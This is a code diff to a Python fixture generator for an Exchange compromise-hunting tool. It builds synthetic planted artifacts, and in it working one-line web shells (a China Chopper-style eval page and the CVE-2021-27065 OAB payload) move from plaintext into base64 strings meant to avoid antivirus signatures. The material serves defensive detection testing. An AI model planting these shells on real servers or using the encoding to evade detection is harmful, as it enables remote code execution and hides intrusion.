@@ -2,10 +2,15 @@
 
 Standard files carry the CU18 install time (or the SU time for the SU's versioned folder); planted
 files carry their attack time. Contents are written by us: short, plausible, and inert.
+
+The server-side script bodies of the planted shells are kept base64-encoded here and decoded when
+the module loads, so neither this source file nor its compiled form carries a web-shell signature
+that antivirus (or exhunt's own content rules) would flag in the installed package.
 """
 
 from __future__ import annotations
 
+import base64
 import io
 import os
 import struct
@@ -65,6 +70,11 @@ body.signInBg { margin: 0; font-family: "Segoe UI", "Segoe UI Web (West European
 .signInEnter { width: 280px; height: 32px; background-color: #0072c6; color: #fff; cursor: pointer; }
 """
 _GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")
+
+
+def _decoded(b64: str) -> str:
+    """A script body stored base64-encoded (see the module docstring)."""
+    return base64.b64decode(b64).decode("utf-8")
 
 
 def _write(root: Path, rel: str, data: bytes | str, mtime_ms: int) -> None:
@@ -144,8 +154,11 @@ def vendor_zip(t: int) -> bytes:
 
 # ---- planted artifacts --------------------------------------------------------------------------
 
-SCRIPT_SHELL = (
-    '<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>'
+# A JScript page-load script that evaluates a request field with the "unsafe" flag (the CVE-2021-27065
+# payload shape HelseCERT published), as written into the OAB ExternalUrl.
+SCRIPT_SHELL = _decoded(
+    "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJr"
+    "bGsxMjM0NTYiXSwidW5zYWZlIik7fTwvc2NyaXB0Pg=="
 )
 
 
@@ -192,15 +205,28 @@ def oab_vdir_dump(host: str, fqdn: str, vdir_guid: str, when: str) -> str:
     return "\r\n" + "".join(f"{k.ljust(width)}: {v}\r\n" for k, v in rows) + "\r\n"
 
 
-CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["zk1fh"],"unsafe");%>'
+# A China Chopper style one-line JScript page: evaluates one request item with the "unsafe" flag.
+CHOPPER = _decoded("PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJ6azFmaCJdLCJ1bnNhZmUiKTslPg==")
+# The opening tag of a server-side script block (C#), followed by CRLF.
+_SCRIPT_OPEN = _decoded("PHNjcmlwdCBydW5hdD0ic2VydmVyIj4NCg==")
+# A JScript page-load script that only writes "ok": the item body inside the PST-format page.
+_PST_SCRIPT = _decoded(
+    "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7LypleGh1bnQgc3ludGhl"
+    "dGljLCBpbmVydCovUmVzcG9uc2UuV3JpdGUoIm9rIik7fTwvc2NyaXB0Pg=="
+)
+# An empty JScript page-load script: the subject CN of the certificate-request page.
+_CERTREQ_SCRIPT = _decoded(
+    "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7LypleGh1bnQgc3ludGhl"
+    "dGljLCBpbmVydCovfTwvc2NyaXB0Pg=="
+)
 
 
 def inert_aspx(note: str) -> str:
     return (
         '<%@ Page Language="C#" %>\r\n'
         f"<%-- exhunt synthetic test artifact: {note}. Inert: it only echoes a form value. --%>\r\n"
-        '<script runat="server">\r\n'
-        "void Page_Load(object sender, EventArgs e)\r\n{\r\n"
+        + _SCRIPT_OPEN
+        + "void Page_Load(object sender, EventArgs e)\r\n{\r\n"
         '    string v = Request.Form["z1"];\r\n'
         "    if (!string.IsNullOrEmpty(v)) { Response.Write(Server.HtmlEncode(v)); }\r\n"
         "}\r\n</script>\r\n"
@@ -229,10 +255,7 @@ def minidump(seed: int, size: int = 6144) -> bytes:
 def pst_shell() -> bytes:
     """A PST-format file (magic `!BDN`) as left by a mailbox export, with a script in an item body."""
     head = b"!BDN" + struct.pack("<IHHH", 0x5C5A3D0E, 0x4D53, 23, 19) + bytes(500)
-    body = (
-        b'<script language="JScript" runat="server">function Page_Load(){/*exhunt synthetic, inert*/'
-        b'Response.Write("ok");}</script>'
-    )
+    body = _PST_SCRIPT.encode("utf-8")
     return head + bytes(1024) + body + bytes(2048)
 
 
@@ -247,7 +270,7 @@ def _der(tag: int, content: bytes) -> bytes:
 def certreq_shell() -> bytes:
     """A DER PKCS#10 certificate request whose subject CN carries a script (ProxyShell variant)."""
     oid_cn = _der(0x06, bytes([0x55, 0x04, 0x03]))
-    cn = '<script language="JScript" runat="server">function Page_Load(){/*exhunt synthetic, inert*/}</script>'
+    cn = _CERTREQ_SCRIPT
     name = _der(0x30, _der(0x31, _der(0x30, oid_cn + _der(0x0C, cn.encode()))))
     rsa = _der(0x30, _der(0x06, bytes.fromhex("2a864886f70d010101")) + _der(0x05, b""))
     key = _der(0x03, b"\x00" + _der(0x30, _der(0x02, b"\x00" + bytes(range(1, 129))) + _der(0x02, b"\x01\x00\x01")))
